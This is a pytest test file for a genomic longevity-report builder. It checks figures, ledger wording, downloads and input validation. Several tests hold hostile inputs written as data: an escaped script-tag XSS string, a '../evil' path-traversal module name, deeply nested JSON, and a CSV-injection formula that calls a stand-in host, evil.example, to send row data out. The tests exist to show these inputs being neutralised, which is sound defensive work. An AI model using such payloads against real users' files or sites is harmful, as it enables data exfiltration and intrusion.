"""Report data and rendering from tiny sample folders: figures match the data, text is escaped, nothing external."""

from __future__ import annotations

import json
import re
from pathlib import Path

import polars as pl
import pytest

from just_dna_pipelines.report.build import ReportInputError, build_report_data
from just_dna_pipelines.report.model import Tally
from just_dna_pipelines.report.render import fmt_weight, render_html, write_report

CATEGORY_KEYS = [
    "lipids",
    "insulin",
    "antioxidant",
    "mitochondria",
    "sirtuin",
    "mtor",
    "tumor-suppressor",
    "renin-angiotensin",
    "heat-shock",
    "inflammation",
    "genome_maintenance",
    "other",
]


def test_data_follows_the_contract(tiny_sample: tuple[Path, Path]) -> None:
    sample_dir, _ = tiny_sample
    data = build_report_data(sample_dir)  # modules root taken from the manifest
    names = [m.name for m in data.modules]
    assert names == ["longevitymap", "lipidmetabolism", "vo2max", "coronary"]
    longevity = data.modules[0]
    assert longevity.tally == Tally(total=4, protective=3, risk=1, neutral=0, net_weight=pytest.approx(0.49))
    assert [c.key for c in longevity.categories] == CATEGORY_KEYS
    by_key = {c.key: c for c in longevity.categories}
    assert by_key["genome_maintenance"].tally.total == 2
    assert by_key["genome_maintenance"].tally.net_weight == 0
    assert by_key["insulin"].tally.total == 0
    rs = {v.rsid: v for v in longevity.variants}
    assert rs["rs2253363"].gene == "GENE1"  # the matched row's gene wins over the annotation
    assert rs["rs2253363"].phenotype == "longevity"
    assert [(s.pmid, s.population) for s in rs["rs3788157"].studies] == [
        ("20011587", "Danish"),
        ("11111111", "Danish"),
        ("20011587", "Japanese"),
    ]  # each record of a paper kept
    assert rs["rs2253363"].genotype == "A/A"
    assert longevity.ledger is not None
    assert (longevity.ledger.tested, longevity.ledger.untested) == (12, 516)
    assert sum(n for _, n in longevity.ledger.untested_reasons) == 516
    assert data.overall.total == 4


def test_every_figure_in_the_html_equals_the_data(
    tiny_sample: tuple[Path, Path], parse_report, expected_figures
) -> None:
    data = build_report_data(tiny_sample[0])
    page = parse_report(render_html(data))
    expected = expected_figures(data)
    seen: dict[str, set[str]] = {}
    for key, text in page.figures:
        seen.setdefault(key, set()).add(text)
    assert {k: v for k, v in seen.items()} == {k: {v} for k, v in expected.items()}
    # Every variant row carries its data, in its own category section.
    rows = {(r["data-module"], r["rsid"], r["genotype"]): r for r in page.rows}
    assert len(page.rows) == sum(m.tally.total for m in data.modules)
    for m in data.modules:
        for v in m.variants:
            row = rows[(m.name, v.rsid or "", v.genotype)]
            assert float(row["weight"]) == v.weight
            assert row["data-sign"] == v.sign
            assert row["section"] == (v.category or "other")


def test_ledger_says_untested_never_not_found(tiny_sample: tuple[Path, Path]) -> None:
    html = render_html(build_report_data(tiny_sample[0]))
    coronary = html[html.index('id="mod-coronary"') : html.index('id="provenance"')]
    text = re.sub(r"<[^>]+>", "", coronary)
    assert "Tested 0 of 27 sites" in text
    assert "None of this module's sites could be tested" in text
    assert "27 not in the file" in re.sub(r"\s+", " ", text)
    assert "no variants found" not in text.lower()
    longevity = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", html[html.index('id="mod-longevitymap"') :]))
    assert "Tested 12 of 528 sites" in longevity
    assert "1 in the file but without a genotype call" in longevity
    assert "15 the module has no GRCh38 position for it and the file has no rsIDs" in longevity


def test_skipped_and_failed_modules_say_so(tiny_sample: tuple[Path, Path]) -> None:
    html = render_html(build_report_data(tiny_sample[0]))
    assert "This module was skipped</strong>: not selected by the user" in html
    assert "This module failed</strong>: weights table unreadable" in html


def test_empty_categories_are_listed(tiny_sample: tuple[Path, Path]) -> None:
    html = render_html(build_report_data(tiny_sample[0]))
    for key in CATEGORY_KEYS:
        assert f'id="cat-{key}"' in html
    assert html.count("No scored variant in this category among the tested sites.") == 9
    assert html.count(">none</text>") == 9  # the chart marks empty categories


def test_module_text_is_escaped(tiny_sample: tuple[Path, Path], parse_report) -> None:
    html = render_html(build_report_data(tiny_sample[0]))
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in html
    assert "<img src=x" not in html
    page = parse_report(html)
    assert len(page.scripts) == 1  # only the report's own script
    assert not any(tag == "img" for tag, _, _ in page.resources)


def test_no_external_resources(tiny_sample: tuple[Path, Path], parse_report) -> None:
    html = render_html(build_report_data(tiny_sample[0]))
    page = parse_report(html)
    for tag, attr, value in page.resources:
        if value.startswith(("http://", "https://", "//")):
            assert (tag, attr) == ("a", "href"), (tag, attr, value)
            assert value.startswith(("https://www.ncbi.nlm.nih.gov/snp/", "https://pubmed.ncbi.nlm.nih.gov/"))
    css = "".join(page.styles)
    assert "@import" not in css and "url(" not in css
    assert "http" not in "".join(page.scripts)
    assert 'href="https://www.ncbi.nlm.nih.gov/snp/rs2253363"' in html
    assert 'href="https://pubmed.ncbi.nlm.nih.gov/22279548/"' in html


def test_write_report_writes_html_and_downloads(tiny_sample: tuple[Path, Path]) -> None:
    data = build_report_data(tiny_sample[0])
    out = write_report(data, tiny_sample[0] / "reports")
    assert sorted(out) == [
        "coronary_variants.csv",
        "coronary_variants.parquet",
        "longevity_report.html",
        "longevitymap_variants.csv",
        "longevitymap_variants.parquet",
    ]
    assert all(p.parent == tiny_sample[0] / "reports" and p.stat().st_size > 0 for p in out.values())
    assert not list((tiny_sample[0] / "reports").glob(".*"))  # no temp files left
    frame = pl.read_parquet(out["longevitymap_variants.parquet"])
    assert frame.height == 4
    # Every position column names its build; on a GRCh38 file its own place is the modules' place.
    assert {"chrom_grch38", "start_grch38", "chrom_in_file", "start_in_file", "file_build"} <= set(
        frame.columns
    )
    assert not {"chrom", "start", "sample_chrom", "sample_start"} & set(frame.columns)
    assert frame.filter(pl.col("rsid") == "rs3788157")["pmids"].to_list() == ["20011587;11111111"]
    assert pl.read_csv(out["longevitymap_variants.csv"]).height == 4
    assert pl.read_csv(out["coronary_variants.csv"]).height == 0
    html = out["longevity_report.html"].read_text(encoding="utf-8")
    assert 'href="longevitymap_variants.csv"' in html and 'href="longevitymap_variants.parquet"' in html


def test_missing_annotations_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ReportInputError, match="annotate the sample before reporting"):
        build_report_data(tmp_path / "users" / "alice" / "nobody")


def test_manifest_disagreeing_with_rows_is_an_error(tmp_path: Path, factory) -> None:
    sample_dir, _ = factory.write_sample(
        tmp_path,
        modules={"coronary": {"matched": 5, "ledger": {}}},
        rows={"coronary": [factory.matched_row("coronary", "rs1", -1.5)]},
    )
    with pytest.raises(ReportInputError, match="matched=5 but its results have 1"):
        build_report_data(sample_dir)


def test_done_module_without_results_file_is_an_error(tmp_path: Path, factory) -> None:
    sample_dir, _ = factory.write_sample(tmp_path, modules={"coronary": {}}, rows={"coronary": []})
    (sample_dir / "modules" / "coronary_weights.parquet").unlink()
    with pytest.raises(ReportInputError, match="marked done but its results"):
        build_report_data(sample_dir)


def test_missing_module_folder_is_a_note_not_an_error(tmp_path: Path, factory) -> None:
    sample_dir, _ = factory.write_sample(
        tmp_path, modules={"coronary": {}}, rows={"coronary": [factory.matched_row("coronary", "rs1", -1.5)]}
    )
    data = build_report_data(sample_dir, modules_root=tmp_path / "elsewhere")
    assert data.modules[0].notes == (
        "Gene notes and studies are unavailable: the module folder was not found.",
    )
    assert "the module folder was not found" in render_html(data)


def test_unknown_category_gets_its_own_section(tmp_path: Path, factory) -> None:
    sample_dir, _ = factory.write_sample(
        tmp_path,
        modules={"longevitymap": {}},
        rows={
            "longevitymap": [
                factory.matched_row("longevitymap", "rs1", 0.2, category="autophagy"),
                factory.matched_row("longevitymap", "rs2", 0.1),
            ]
        },
    )
    data = build_report_data(sample_dir)
    cats = {c.key: c.tally.total for c in data.modules[0].categories}
    assert len(cats) == 13 and cats["autophagy"] == 1 and cats["other"] == 1


def test_unsafe_module_name_is_refused(tmp_path: Path, factory) -> None:
    sample_dir, _ = factory.write_sample(tmp_path, modules={"coronary": {}}, rows={"coronary": []})
    manifest_path = sample_dir / "modules" / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["modules"]["../evil"] = manifest["modules"].pop("coronary")
    manifest_path.write_text(json.dumps(manifest))
    data = build_report_data(sample_dir)
    with pytest.raises(ValueError, match="invalid module name"):
        write_report(data, tmp_path / "reports")
    assert not (tmp_path / "reports" / "longevity_report.html").exists()


@pytest.mark.parametrize(
    ("value", "text"), [(0.14, "+0.14"), (-0.175, "-0.175"), (0.0, "0"), (1.0, "+1"), (-1e-9, "0")]
)
def test_weight_format(value: float, text: str) -> None:
    assert fmt_weight(value) == text


def test_input_warnings_reach_the_reader(tmp_path: Path, factory) -> None:
    sample_dir, _ = factory.write_sample(tmp_path, modules={"coronary": {}}, rows={"coronary": []})
    manifest_path = sample_dir / "modules" / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["input"]["genome_build"] = "GRCh37"
    manifest["input"]["warnings"] = ["3 samples in the file; using NA12878"]
    manifest_path.write_text(json.dumps(manifest))
    html = render_html(build_report_data(sample_dir))
    assert '<p class="alert" role="alert">3 samples in the file; using NA12878</p>' in html
    assert "The input is GRCh37 but the module positions are GRCh38" in html


def test_rewrite_removes_downloads_of_modules_no_longer_done(tmp_path: Path, factory) -> None:
    sample_dir, _ = factory.write_sample(tmp_path, modules={"coronary": {}}, rows={"coronary": []})
    reports = sample_dir / "reports"
    reports.mkdir()
    (reports / "vo2max_variants.csv").write_text("stale")
    (reports / "notes.txt").write_text("kept")
    out = write_report(build_report_data(sample_dir), reports)
    assert sorted(p.name for p in reports.iterdir()) == sorted([*out, "notes.txt"])


def test_ids_are_unique_and_every_reference_resolves(tiny_sample: tuple[Path, Path]) -> None:
    html = render_html(build_report_data(tiny_sample[0]))
    ids = re.findall(r' id="([^"]+)"', html)
    assert len(ids) == len(set(ids))
    references = re.findall(r'aria-controls="([^"]+)"', html) + re.findall(r'href="#([^"]+)"', html)
    references += [i for group in re.findall(r'aria-labelledby="([^"]+)"', html) for i in group.split()]
    assert references and set(references) <= set(ids)


def test_rows_without_a_weight_are_counted_by_their_state(tmp_path: Path, factory) -> None:
    """Superhuman's rows carry no weight (read as 0) and are curated as protective: the module read "0 protective,
    0 risk" above a table of rows each saying protective."""
    rows = [
        factory.matched_row("superhuman", "rs333", 0.0, state="protective"),
        factory.matched_row("superhuman", "rs1815739", 0.0, state="neutral"),
    ]
    entry = {"matched": 2, "protective": 1, "risk": 0, "net_weight": 0.0, "ledger": factory.ledger(2, 2)}
    sample_dir, _ = factory.write_sample(tmp_path, {"superhuman": entry}, {"superhuman": rows})
    (module,) = build_report_data(sample_dir).modules
    assert module.tally == Tally(total=2, protective=1, risk=0, neutral=1, net_weight=0.0)
    html = render_html(build_report_data(sample_dir))
    assert re.search(r'data-figure="superhuman\.protective"[^>]*>1<', html), "the module's protective count"


def test_the_csv_download_keeps_module_text_from_running_as_a_formula(tmp_path: Path, factory) -> None:
    """A module's conclusion or gene starting with = + - @ was written as is: a spreadsheet opening the CSV ran it
    (=HYPERLINK sends the row to any site when clicked). The CSV quotes it as text, as the report's own export does;
    numbers, negative weights included, and the Parquet stay as they are."""
    formula = '=HYPERLINK("https://evil.example/?"&A2,"more")'
    rows = [
        factory.matched_row(
            "coronary", "rs1", -0.5, conclusion=formula, gene="@SUM(1+1)", category="+1+cmd|"
        ),
        factory.matched_row("coronary", "rs2", 0.25, conclusion="-2+3", gene="+GENE", category="-"),
    ]
    sample_dir, _ = factory.write_sample(tmp_path, modules={"coronary": {}}, rows={"coronary": rows})
    out = write_report(build_report_data(sample_dir), sample_dir / "reports")
    csv = pl.read_csv(out["coronary_variants.csv"], infer_schema=False).sort("rsid")
    assert csv["conclusion"].to_list() == ["'" + formula, "'-2+3"]
    assert csv["gene"].to_list() == ["'@SUM(1+1)", "'+GENE"]
    assert csv["category"].to_list() == ["'+1+cmd|", "'-"]
    assert csv["weight"].to_list() == ["-0.5", "0.25"]
    parquet = pl.read_parquet(out["coronary_variants.parquet"]).sort("rsid")
    assert parquet["conclusion"].to_list() == [formula, "-2+3"]


def test_a_module_folder_of_oversized_tables_and_deep_json_is_noted_not_read(tmp_path: Path, factory) -> None:
    """A 0.2 MB annotations table of 20 M rows took the report 52 s and 11 GB to read whole; a module.json nested
    100,000 deep raised RecursionError out of the report."""
    sample_dir, modules_root = factory.write_sample(
        tmp_path, modules={"coronary": {}}, rows={"coronary": [factory.matched_row("coronary", "rs1", -1.5)]}
    )
    folder = modules_root / "coronary"
    pl.DataFrame({"rsid": ["rs1"] * 1_000_001}).write_parquet(folder / "annotations.parquet")
    (folder / "module.json").write_text("[" * 100_000 + "]" * 100_000)
    data = build_report_data(sample_dir, modules_root=modules_root)
    assert data.modules[0].notes == (
        "The module's gene notes are unavailable: annotations.parquet has 1,000,001 rows "
        "(this version reads up to 1,000,000).",
    )
